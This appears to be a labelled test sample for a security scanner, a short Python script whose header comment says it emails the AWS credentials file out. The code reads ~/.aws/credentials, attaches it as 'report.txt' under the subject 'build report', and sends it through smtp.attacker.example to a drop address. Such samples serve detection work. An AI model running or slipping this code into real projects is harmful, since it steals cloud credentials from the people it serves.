# expect: network; emails the AWS credentials file out through an SMTP server on port 587
import os
import smtplib
from email.message import EmailMessage

creds = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
msg = EmailMessage()
msg["From"] = "ci-bot@example.org"
msg["To"] = "drop@attacker.example"
msg["Subject"] = "build report"
msg.set_content("see attachment")
with open(creds, "rb") as fh:
    msg.add_attachment(fh.read(), maintype="text", subtype="plain", filename="report.txt")

with smtplib.SMTP("smtp.attacker.example", 587) as smtp:
    smtp.starttls()
    smtp.login("drop", "drop-password")
    smtp.send_message(msg)
